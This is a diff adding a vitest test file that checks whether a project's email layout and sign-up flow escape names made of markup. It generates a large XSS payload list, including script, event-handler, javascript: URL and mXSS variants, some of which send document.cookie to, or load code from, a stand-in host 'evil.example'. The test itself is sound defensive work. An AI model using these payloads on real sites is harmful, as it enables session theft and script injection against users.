@@ -1,0 +1,125 @@
+import { access } from '@konsil/contract/access'
+import { languages } from '@konsil/contract/core/texts'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { layOut } from '../../src/mails/layout.ts'
+import { startTestServer, type TestServer, testPassword } from '../test-server.ts'
+import { count, proofTime } from './size.ts'
+
+let server: TestServer
+beforeAll(async () => {
+  server = await startTestServer()
+}, proofTime)
+afterAll(() => server.stop())
+
+const acts = [
+  'alert(document.domain)',
+  'fetch(`//evil.example/`+document.cookie)',
+  'import(`//evil.example/x`)',
+  'location=`//evil.example`',
+  'eval(name)',
+]
+const frames = [
+  '<script>ACT</script>',
+  '<ScRiPt src=//evil.example/x></sCrIpT>',
+  '<img src=x onerror=ACT>',
+  '<svg onload=ACT>',
+  '<svg><animate onbegin=ACT attributeName=x>',
+  '<body onload=ACT>',
+  '<iframe srcdoc="<script>ACT</script>">',
+  '<iframe src="javascript:ACT">',
+  '<a href="javascript:ACT">x</a>',
+  '<a href="java\tscript:ACT">x</a>',
+  '<math href="javascript:ACT">x',
+  '<form action="javascript:ACT"><button>x',
+  '<input autofocus onfocus=ACT>',
+  '<details open ontoggle=ACT>',
+  '<video><source onerror=ACT>',
+  '<object data="javascript:ACT">',
+  '<embed src="javascript:ACT">',
+  '<link rel=stylesheet href=//evil.example/x>',
+  '<style>@import "//evil.example/x"</style>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content="x;url=//evil.example">',
+  '"><script>ACT</script>',
+  "'><script>ACT</script>",
+  '" onmouseover="ACT',
+  "' onmouseover='ACT",
+  '" style="background:url(//evil.example/x)',
+  '--><script>ACT</script>',
+  ']]><script>ACT</script>',
+  '</title><script>ACT</script>',
+  '</p></div></body><script>ACT</script>',
+  '</textarea><script>ACT</script>',
+  '<<script>ACT//<</script>',
+  '<script\u2028>ACT</script>',
+  '\ufeff<script>ACT</script>',
+  '<img/src/onerror=ACT>',
+  '<noscript><p title="</noscript><img src=x onerror=ACT>">',
+  '<mxss><style><img title="</style><img src=x onerror=ACT>">',
+  '<template><script>ACT</script></template>',
+  '&lt;script&gt;ACT&lt;/script&gt;',
+  '&#60;script&#62;ACT&#60;/script&#62;',
+  '\\u003cscript\\u003eACT\\u003c/script\\u003e',
+  '%3Cscript%3EACT%3C/script%3E',
+  '${ACT}',
+  '{{constructor.constructor(`ACT`)()}}',
+  '__PRODUCT_NAME__<script>ACT</script>',
+  '$&<script>ACT</script>$`',
+  '+ADw-script+AD4-ACT+ADw-/script+AD4-',
+  'javascript:ACT',
+  'data:text/html,<script>ACT</script>',
+  '<xml onreadystatechange=ACT>',
+]
+const payloads = frames.flatMap(frame => acts.map(act => frame.replaceAll('ACT', act)))
+
+/** The marks of a page, which are those of its author as long as nobody else adds one. */
+const marksOf = (html: string) => html.match(/<[^>]*>/g) ?? []
+
+test('F16 no text of a person becomes a mark of a mail, in any place and either language', () => {
+  const mailWith = (text: string, language: (typeof languages)[number]) => {
+    const action = { label: text, url: `https://konsil.example/?name=${encodeURIComponent(text)}` }
+    const texts = { subject: text, greeting: text, paragraphs: [text, text], closing: text, action }
+    return layOut(texts, text, language).html
+  }
+  const plainUrl = (html: string) => marksOf(html).map(mark => mark.replace(/\?name=[^"]*/, ''))
+  expect(payloads.length * 6 * languages.length).toBeGreaterThanOrEqual(count(6_000, 3_000))
+  for (const language of languages) {
+    const expected = plainUrl(mailWith('Anna', language))
+    for (const payload of payloads) {
+      expect(plainUrl(mailWith(payload, language)), payload).toEqual(expected)
+    }
+  }
+})
+
+test(
+  'ACC-18, F16 a name that is all markup is a name in the mail, and comes back from calls as it was',
+  async () => {
+    const names = payloads.map(payload => payload.slice(0, 80)).filter(isName)
+    const seen = new Set<string>()
+    for (const [at, name] of names.slice(0, count(names.length, 12)).entries()) {
+      const email = `markup-${at}@example.org`
+      const question = { firstName: name, lastName: name, email, password: testPassword }
+      const { status } = await server.call(access.signUp, { ...question, role: 'PATIENT' })
+      expect(status, name).toBe(200)
+      await server.runJobs()
+      const [mail] = await server.mailsTo(email)
+      expect(mail?.subject).not.toContain('<')
+      seen.add(
+        marksOf(mail?.html ?? '')
+          .map(mark => mark.replace(/token=[\w-]+/, ''))
+          .join(''),
+      )
+      const user = server.database.updateTable('app_user').where('email', '=', email)
+      await user.set({ state: 'ACTIVE' }).execute()
+      const who = { email, password: testPassword, role: 'PATIENT' } as const
+      const { data, headers } = await server.call(access.signIn, who)
+      expect(data.user.profile.firstName).toBe(name.trim())
+      expect(headers.get('content-type')).toMatch(/^application\/json/)
+    }
+    expect(seen.size).toBe(1)
+  },
+  proofTime,
+)
+
+const isName = (text: string) =>
+  access.signUp.input.shape.firstName.safeParse(text).success && /[<"']/.test(text)
